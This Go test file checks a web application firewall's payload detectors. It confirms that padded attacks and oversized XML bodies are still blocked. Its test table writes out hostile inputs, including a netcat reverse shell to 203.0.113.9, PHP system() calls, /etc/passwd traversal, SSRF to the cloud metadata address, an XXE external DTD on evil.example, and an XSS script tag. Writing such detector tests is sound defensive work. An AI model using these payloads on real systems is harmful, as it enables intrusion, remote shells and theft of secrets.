package payload_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/rampartgw/rampart/detections"
	"github.com/rampartgw/rampart/detections/payload"
)

// formRequest posts value as the form field name.
func formRequest(name, value string) *detections.Request {
	return &detections.Request{Method: "POST", Path: "/f", RawPath: "/f", Body: []byte(name + "=" + url.QueryEscape(value)),
		Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}}
}

// TestPaddedPayloadsBlocked: an analyzer's own bound on what it reads
// (a call's argument, an URL, a path, a command line, an EL body, a
// DOCTYPE) is never a way around it: a blocked payload padded out past the
// bound is still blocked, by the same rule.
func TestPaddedPayloadsBlocked(t *testing.T) {
	t.Parallel()
	d := newDefault(t)
	pad := strings.Repeat("a", 5000)
	for _, tc := range []struct {
		name, value, rule string
	}{
		// php: a call not closed within the 1024 bytes read for its ')'.
		{"php strong call", "system('" + pad + "')", payload.RulePHPCode},
		{"php statement", "1;include('" + pad + "');", payload.RulePHPCode},
		// rfi: an URL longer than 2048 bytes.
		{"rfi userinfo", "http://trusted.example@evil.example/" + pad, payload.RuleRFI},
		// sensitive_files: a path longer than 1024 bytes, rooted in a
		// system directory or naming a server file at its end.
		{"system root", "/etc/" + strings.Repeat("./", 600) + "passwd", payload.RuleSensitiveFile},
		{"server file", `C:\` + strings.Repeat(`x\`, 700) + `xampp\apache\conf\httpd.conf`, payload.RuleSensitiveFile},
		// cmdi: a command line longer than 512 bytes.
		{"command line", "nc -e /bin/sh 203.0.113.9 4444 " + strings.Repeat("-", 600), payload.RuleCmdi},
		// java: an EL body longer than 256 bytes.
		{"el body", "${x" + strings.Repeat("a", 300) + " + pageContext.request}", payload.RuleJavaExpression},
		// ssrf: an URL longer than 4096 bytes.
		{"ssrf metadata", "http://169.254.169.254/latest/meta-data/?" + pad, payload.RuleSSRFMetadata},
		{"ssrf scheme", "gopher://127.0.0.1:6379/_INFO" + pad, payload.RuleSSRFScheme},
		// xxe: a DOCTYPE longer than 2048 bytes.
		{"external dtd", "<!DOCTYPE " + strings.Repeat("x", 3000) + ` SYSTEM "http://evil.example/x.dtd"><x/>`, payload.RuleXXE},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := inspect(t, d, formRequest("img", tc.value))
			if v.Action != detections.ActionBlock || v.Rule != tc.rule {
				t.Errorf("%q... (%d bytes): %v %s, want block %s", tc.value[:min(len(tc.value), 40)], len(tc.value), v.Action, v.Rule, tc.rule)
			}
		})
	}
}

// TestXMLChunkLimit: the text nodes of an XML body are inspected up to a
// bound, and reaching it is a protocol_limit finding located
// "limit:max_xml_chunks", like the walk's limits, never a silent end of
// inspection.
func TestXMLChunkLimit(t *testing.T) {
	t.Parallel()
	doc := func(nodes int, tail string) *detections.Request {
		body := `<?xml version="1.0"?><r>` + strings.Repeat("<a>x</a>", nodes) + tail + "</r>"
		return &detections.Request{Method: "POST", Path: "/x", RawPath: "/x", Body: []byte(body),
			Header: http.Header{"Content-Type": {"application/xml"}}}
	}
	const xss = "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>"
	const limit = detections.DefaultMaxFields
	for _, tc := range []struct {
		name      string
		mode      detections.Mode
		r         *detections.Request
		want      detections.Action
		rule, loc string
	}{
		{"payload after 2001 nodes", detections.ModeEnforce, doc(2001, xss), detections.ActionBlock, payload.RuleXSS, "body"},
		{"nodes at the limit", detections.ModeEnforce, doc(limit, ""), detections.ActionAllow, "", ""},
		{"payload beyond the limit", detections.ModeEnforce, doc(limit, xss), detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_xml_chunks"},
		{"nodes beyond the limit", detections.ModeEnforce, doc(limit+1, ""), detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_xml_chunks"},
		{"the limit in monitor mode", detections.ModeMonitor, doc(limit+1, ""), detections.ActionMonitor, payload.RuleProtocolLimit, "limit:max_xml_chunks"},
		{"the limit off", detections.ModeOff, doc(limit+1, ""), detections.ActionAllow, "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := payload.DefaultConfig()
			cfg.Analyzers = map[string]payload.AnalyzerConfig{"protocol_limit": {Mode: tc.mode}}
			d, err := payload.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			v := inspect(t, d, tc.r)
			if v.Action != tc.want || v.Rule != tc.rule || v.Location != tc.loc {
				t.Errorf("%v %s at %q, want %v %s at %q", v.Action, v.Rule, v.Location, tc.want, tc.rule, tc.loc)
			}
		})
	}
}
